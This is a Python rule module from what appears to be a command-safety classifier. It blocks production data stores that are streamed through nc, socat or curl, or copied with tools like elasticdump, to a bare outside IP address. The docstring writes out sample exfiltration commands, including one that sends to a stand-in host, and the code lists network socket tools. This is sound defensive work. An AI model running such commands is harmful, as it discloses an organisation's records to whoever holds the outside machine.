"""A production store's contents forwarded to a bare address outside: data leaves for a host nobody vouches
for.

A mailbox forwarded outside sends every future message away; a topic consumed from its beginning, an index
dumped, a table exported and written straight into a socket or a copy tool's output on a bare IP address do
the same to a store's records at once. The address names no organisation (no name a company registered, no
private range): whoever holds that machine now holds the data. The rubric stops exfiltration whatever the
tool, so this reads the flow:

- a program that reads a production store (its words name production: `kafka-prod-1`, `es-prod`, `app_prod`)
  and prints what it reads (a consumer, a dump, an export, a search, a scan), piped into a raw socket or an
  upload from stdin (`nc`, `ncat`, `socat`, `telnet`, `curl --data-binary @-`, `curl -T -`) to a bare
  address;
- a copy tool told to read a production store and write to a URL on a bare address (`elasticdump
  --input=https://es-prod… --output=http://203.0.113.57:9200/…`, `--source`/`--dest`, `--from`/`--to`).

A development or local source, a destination with a name (a disaster-recovery cluster of the same company, a
bucket) and a private address (10.x, 192.168.x) keep the verdict the line has.
"""

from __future__ import annotations

from dongle.assessment import Assessment
from dongle.classify.verdict import assess
from dongle.lazy_regex import lazy_compile
from dongle.levels import DangerLevel
from dongle.rules.facts import Facts, is_raw_ip, names_production, url_host

# Senders that write what they read on stdin to a peer.
_SOCKET_SENDERS = frozenset({"nc", "ncat", "netcat", "socat", "telnet", "curl", "http", "xh", "wget"})
# Words a reading program's name or subcommand carries when it prints a store's records.
_READING = lazy_compile(r"(?i)consum|dump|export|\bscan\b|\bsearch\b|\bcat\b|\bget\b|\bsub\b|\bread\b|"
                        r"\btail\b|\bselect\b|\bfind\b|\bquery\b")
# A copy tool's source and destination options.
_SOURCE_OPTIONS = ("--input", "--source", "--src", "--from", "-i")
_DEST_OPTIONS = ("--output", "--dest", "--destination", "--dst", "--to", "-o")
_PRIVATE = lazy_compile(r"^(?:10\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.|127\.|169\.254\.|0\.|"
                        r"\[?::1|\[?f[cd])")
_STDIN_UPLOAD = frozenset({"@-", "-", "/dev/stdin"})


def _outside_ip(word: str) -> str:
    """The bare, non-private address a word (a URL, `host:port`, or a host alone) names; or ""."""
    host = url_host(word) or word.split(":", 1)[0]
    host = host.strip("[]'\"")
    return host if host and is_raw_ip(host) and not _PRIVATE.match(host) else ""


def _peer(facts: Facts) -> str:
    """The bare outside address a socket sender or an upload from stdin sends to, or ""."""
    args = facts.inv.args
    if facts.name in ("curl", "http", "xh", "wget") and not any(
            a in _STDIN_UPLOAD or a.endswith("@-") for a in args):
        return ""
    for arg in args:
        if arg.startswith("-") and "=" not in arg:
            continue
        for word in (arg.partition("=")[2] if arg.startswith("-") else arg,
                     arg.split(":", 1)[1] if arg.upper().startswith(("TCP:", "TCP4:", "UDP:")) else ""):
            if word and (peer := _outside_ip(word)):
                return peer
    return ""


def _option(args: tuple[str, ...], names: tuple[str, ...]) -> str:
    for i, arg in enumerate(args):
        name, eq, value = arg.partition("=")
        if name in names:
            return value if eq else (args[i + 1] if i + 1 < len(args) else "")
    return ""


def production_data_forwarded(facts: Facts, subject: str) -> Assessment | None:
    """Production records streamed or copied to a bare outside address: stop; otherwise None."""
    if facts.name in _SOCKET_SENDERS:
        peer = _peer(facts)
        if not peer:
            return None
        reader = next((f for f in facts.feeders if f.production and _READING.search(
            " ".join((f.name, *f.lowered_positionals[:3])))), None)
        if reader is None:
            return None
        what = f"what `{reader.name}` reads from production ({reader.production[0]})"
    else:
        args = facts.inv.args
        source, dest = _option(args, _SOURCE_OPTIONS), _option(args, _DEST_OPTIONS)
        peer = _outside_ip(dest) if dest and "://" in dest else ""
        if not peer or not names_production(source.strip("'\"")):
            return None
        what = f"the production store {source.split('@')[-1][:80]}"
    return assess(
        DangerLevel.FORBIDDEN, kind="command", subject=subject, irreversible=True,
        factors=(f"sends {what} to {peer}, a bare address no organisation answers for: the records leave "
                 "for whoever holds that machine [net.production-data-forwarded]",),
        rules=("net.production-data-forwarded",),
        safer_alternative="Copy production data only to the organisation's own named systems, through an "
        "approved export, masked where it holds people's records.",
        recovery="Treat the data as disclosed: tell the data owner, and stop the stream or the copy at once.")


def may_name_destination(arguments: str) -> bool:
    """Whether these lower-cased arguments (a whole line's, joined by any separator) can hold what
    `may_forward` looks for in a part's: a URL, or one of the destination options. Asked once per line,
    so that in a line with neither (most) only the socket senders' parts are asked."""
    return "://" in arguments or "--output" in arguments or "--dest" in arguments or "--to" in arguments


def may_forward(facts: Facts, destination_named: bool = True) -> bool:
    """The cheap gate, asked of every part: a socket sender fed by a pipe, or an option naming a URL
    (`destination_named`: `may_name_destination` of the line's arguments)."""
    if facts.name in _SOCKET_SENDERS:
        return bool(facts.feeders)
    if not destination_named:
        return False
    args = facts.inv.args
    return any(a.startswith(_DEST_OPTIONS) and "://" in a for a in args) or (
        "--output" in args or "--dest" in args or "--to" in args)
